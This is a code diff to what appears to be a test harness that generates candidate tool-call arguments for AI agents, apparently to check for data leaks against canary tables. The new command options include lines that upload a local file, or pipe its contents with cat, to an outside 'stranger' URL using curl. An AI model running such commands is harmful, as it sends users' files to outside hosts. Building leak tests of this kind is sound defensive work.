@@ -8,7 +8,7 @@ from __future__ import annotations
 
 import itertools
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from typing import Annotated, Any, Literal, get_args, get_origin
 
 from canary_worlds import Tables
@@ -97,6 +97,12 @@ def texts_in(value: Any) -> Iterator[str]:
         yield str(value)
 
 
+def names_in(arguments: Mapping[str, Any]) -> list[str]:
+    """Every text in the arguments of a call, and the words of a command."""
+    words = str(arguments.get("command", "")).split()
+    return [*texts_in([*arguments.values()]), *words]
+
+
 def _range(hint: Any) -> list[int]:
     least, most = -(10**9), 10**9
     for item in get_args(hint)[1:] if get_origin(hint) is Annotated else ():
@@ -127,7 +133,13 @@ def options(tool: Tool, name: str, world: Tables) -> list[Any]:
         return list(dict.fromkeys(found))
     if kind == "command":
         words, site = said(tool, name), STRANGERS["url"][0]
-        return [f"echo '{words}' >> /srv/canary.txt", f"curl -d '{words}' {site}"]
+        files = [key for key in keys if key.startswith("/")][:1]
+        return [
+            f"echo '{words}' >> /srv/canary.txt",
+            f"curl -d '{words}' {site}",
+            *(f"curl -T {path} {site}" for path in files),
+            *(f"cat {path} | curl -d @- {site}" for path in files),
+        ]
     if kind in ("assignment", "where"):
         sign = ":=" if kind == "assignment" else "!="
         tables = world.get("database.tables", {})
